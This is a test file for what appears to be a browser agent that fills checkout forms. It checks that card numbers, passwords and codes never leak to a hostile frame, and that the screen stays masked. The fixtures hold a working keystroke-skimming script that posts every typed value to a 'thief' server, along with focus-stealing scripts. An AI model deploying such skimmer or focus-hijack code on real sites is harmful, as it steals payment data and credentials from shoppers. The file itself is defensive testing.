import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startBrowser } from '../../../test/harness/browser.ts';
import type { RunScreen } from '../types.ts';
import { fillField } from './fields/fill.ts';
import { typeSecret } from './fields/type-secret.ts';
import { NetworkWatch } from './page/settle.ts';
import { takeSnapshot } from './page/snapshot.ts';
import { type Run, RunStop } from './run.ts';
import { coverScreen, uncoverScreen } from './steps/login/secrets.ts';
import { fillCard, findCardForm } from './steps/paying/card-fields.ts';
import { findChallenge, frameAddresses } from './steps/paying/three-ds.ts';
import { pageOf, plainCard, plainShop } from './testing/pages-kit.ts';
import {
  aTask,
  runInShop,
  startTestShop,
  type TestShop,
  testCard,
} from './testing/test-shop-kit.ts';

let browser: Browser;
let context: BrowserContext;
let page: Page;
let shop: TestShop;
let company: TestShop;
let thief: TestShop;
const typed = `<script>addEventListener('input', (event) => fetch('/seen', { method: 'POST', body: new URLSearchParams({ value: event.target.value }) }))</script>`;
beforeAll(async () => {
  browser = await startBrowser();
  company = await startTestShop(() => ({ html: `<form>${plainCard}</form>` }));
  thief = await startTestShop(({ path }) => ({
    html:
      path === '/greedy'
        ? `${typed}<input><script>
          const again = new MessageChannel();
          again.port1.onmessage = () => { document.querySelector('input').focus(); again.port2.postMessage(0); };
          again.port2.postMessage(0);
        </script>`
        : `${typed}<h1>Is this you?</h1><form>${plainCard}</form>`,
  }));
  const own = `<form id="own">${plainCard}</form><p id="echo"></p>`;
  const bodies: Readonly<Record<string, string>> = {
    '/frame': `<iframe id="card" src="${company.origin}/card" width="500" height="400"></iframe>`,
    '/account': `<form>${[
      'given-name',
      'address-line1',
      'postal-code',
      'current-password',
      'one-time-code',
    ]
      .map(
        (name) =>
          `<label>${name} <input name="${name}" autocomplete="${name}" ${name.endsWith('word') ? 'type="password"' : ''}></label>`,
      )
      .join('')}</form><iframe src="${thief.origin}/greedy" width="300" height="60"></iframe>`,
    '/watched': `${own}<iframe src="${thief.origin}/greedy" width="300" height="60"></iframe>`,
    // Writes the groups of the number by itself, and knows only the keys of real keyboards.
    '/keys': `${own}<script>
      const [number, , cvc] = document.querySelectorAll('#own input');
      number.addEventListener('input', () => setTimeout(() => { number.value = number.value.replace(/\\D/g, '').replace(/(\\d{4})(?=\\d)/g, '$1 '); }));
      cvc.addEventListener('beforeinput', (event) => event.preventDefault());
      cvc.addEventListener('keydown', (event) => { if (event.keyCode >= 48 && event.keyCode <= 57) cvc.value += event.key; });
    </script>`,
    '/restless': `${own}<label>Note <input id="note"></label><script>document.querySelector('[name=cardnumber]').addEventListener('focus', () => document.getElementById('note').focus())</script>`,
  };
  shop = await startTestShop(({ path }) => ({ html: pageOf('Checkout', bodies[path] ?? own) }));
});
afterAll(async () => {
  await browser.close();
  for (const one of [shop, company, thief]) await one.close();
});

const masks: boolean[] = [];
const screen: RunScreen = { mask: async (isOn) => void masks.push(isOn) };

/** What the steps need of a run, without one. */
async function openRun(path: string): Promise<Run> {
  await page.goto(`${shop.origin}${path}`, { waitUntil: 'load' });
  return {
    page,
    context,
    screen,
    watch: new NetworkWatch(page),
    task: aTask(shop.origin, { paymentFrameOrigins: [company.origin] }),
    signal: new AbortController().signal,
    log: { info: () => undefined, warn: () => undefined },
    state: { shopOrigin: shop.origin, cardTyped: false, armed: false, secrets: [] },
  } as unknown as Run;
}

beforeEach(async () => {
  await context?.close();
  context = await browser.newContext();
  page = await context.newPage();
  masks.length = 0;
});

describe('a card', () => {
  it('is not typed into a frame that has gone elsewhere since its fields were found', {
    tags: 'slow',
  }, async () => {
    const run = await openRun('/frame');
    const form = await findCardForm(run, await takeSnapshot(page.mainFrame()));
    const gone = page.waitForResponse((response) => response.url().startsWith(thief.origin));
    await page.evaluate(`document.getElementById('card').src = '${thief.origin}/card'`);
    await gone;
    await expect(fillCard(run, form!, testCard)).rejects.toThrow(RunStop);
    expect(thief.posts).toEqual([]);
  });

  it('never comes to another frame that takes the focus while it is typed', {
    tags: 'slow',
  }, async () => {
    const run = await openRun('/watched');
    const form = await findCardForm(run, await takeSnapshot(page.mainFrame()));
    await fillCard(run, form!, testCard);
    expect(await page.locator('[name=cardnumber]').inputValue()).toBe(testCard.number);
    expect(thief.posts).toEqual([]);
  });

  it('never comes to another field of the page that takes the focus while it is typed', async () => {
    const run = await openRun('/restless');
    const form = await findCardForm(run, await takeSnapshot(page.mainFrame()));
    await expect(fillCard(run, form!, testCard)).rejects.toThrow(RunStop);
    expect(await page.locator('#note').inputValue()).toBe('');
  });

  it('is typed into fields that write it anew or take single keys only', async () => {
    const run = await openRun('/keys');
    await fillCard(run, (await findCardForm(run, await takeSnapshot(page.mainFrame())))!, testCard);
    await expect
      .poll(() => page.locator('[name=cardnumber]').inputValue())
      .toBe('4242 4242 4242 4242');
    expect(await page.locator('[name=cvc]').inputValue()).toBe(testCard.cvc);
  });

  it('is typed into a frame of the payment company', async () => {
    const run = await openRun('/frame');
    const form = await findCardForm(run, await takeSnapshot(page.mainFrame()));
    await fillCard(run, form!, testCard);
    expect(await page.frameLocator('#card').locator('[name=cardnumber]').inputValue()).toBe(
      testCard.number,
    );
  });
});

describe('what else is typed', { tags: 'slow' }, () => {
  it.each([
    ['what is known of the buyer', fillField, ['given-name', 'address-line1', 'postal-code']],
    ['a password and a code', typeSecret, ['current-password', 'one-time-code']],
  ] as const)('never comes to another frame that takes the focus: %s', async (_, type, names) => {
    await openRun('/account');
    const snapshot = await takeSnapshot(page.mainFrame());
    for (const name of names) {
      const field = snapshot.fields.find((one) => one.name === name)!;
      expect([name, await type(snapshot, field, [`my ${name}`])]).toEqual([name, true]);
      expect(await page.locator(`[name=${name}]`).inputValue()).toBe(`my ${name}`);
    }
    expect(thief.posts).toEqual([]);
  });
});

describe('the live picture', { tags: 'slow' }, () => {
  it('comes back when nothing of a secret can be seen: fields that still hold one are blurred first', async () => {
    const run = await openRun('/own');
    await coverScreen(run);
    await fillCard(run, (await findCardForm(run, await takeSnapshot(page.mainFrame())))!, testCard);
    expect(masks).toEqual([true]);
    await uncoverScreen(run);
    expect(masks).toEqual([true, false]);
    const filters = await page.evaluate(
      `[...document.querySelectorAll('#own input')].map((field) => field.style.filter)`,
    );
    expect(filters).toEqual(new Array(4).fill('blur(14px)'));
  });

  it('stays covered while the page prints the number, and comes back with the next page', async () => {
    const run = await openRun('/own');
    await coverScreen(run);
    await fillCard(run, (await findCardForm(run, await takeSnapshot(page.mainFrame())))!, testCard);
    await page.evaluate(`document.getElementById('echo').textContent = '4242 4242 4242 4242'`);
    await uncoverScreen(run);
    expect(masks).toEqual([true]);
    await page.goto(`${shop.origin}/next`);
    await uncoverScreen(run);
    expect(masks).toEqual([true, false]);
  });
});

describe('the bank', () => {
  it('is seen in a window that opens, and not in frames that were there before', async () => {
    const run = await openRun('/frame');
    const before = frameAddresses(run);
    const snapshot = await takeSnapshot(page.mainFrame());
    expect(await findChallenge(run, snapshot, before)).toBeUndefined();
    const [bank] = await Promise.all([
      context.waitForEvent('page'),
      page.evaluate(`void window.open('${thief.origin}/bank')`),
    ]);
    await bank.waitForLoadState();
    expect(await findChallenge(run, snapshot, before)).toMatchObject({ origin: thief.origin });
  });

  it('asks in a window of its own: the user answers there, with the picture uncovered, and the order is placed once', {
    tags: 'slow',
  }, async () => {
    const bank = await startTestShop(() => ({
      html: `<title>Bank</title><h1>Is this you?</h1><button onclick="opener.postMessage('approved', '*'); close()">Approve</button>`,
    }));
    const head = `<script>addEventListener('submit', async (event) => {
      if (event.target.id !== 'checkout') return;
      event.preventDefault();
      addEventListener('message', () => { location.href = '/thanks'; });
      await fetch('/order', { method: 'POST', body: new URLSearchParams(new FormData(event.target)), redirect: 'manual' });
      window.open('${bank.origin}/challenge', 'bank', 'width=400,height=500');
    })</script>`;
    const store = await startTestShop(plainShop({ head }));
    const run = await runInShop(browser, aTask(`${store.origin}/mug`), {
      screen,
      answer: async (request, hands) => {
        if (request.kind !== 'three-d-secure') return undefined;
        expect(masks).toEqual([true, false]);
        await hands.context.pages().at(-1)!.getByRole('button', { name: 'Approve' }).click();
        return { done: true };
      },
    });
    await bank.close();
    await store.close();
    expect(run.asked.map(({ kind }) => kind)).toEqual(['approve-purchase', 'three-d-secure']);
    expect(run.end).toMatchObject({ outcome: 'succeeded', merchantOrderId: 'ORD-1001' });
    expect(store.orders).toHaveLength(1);
    expect(masks.at(-1)).toBe(false);
  });
});
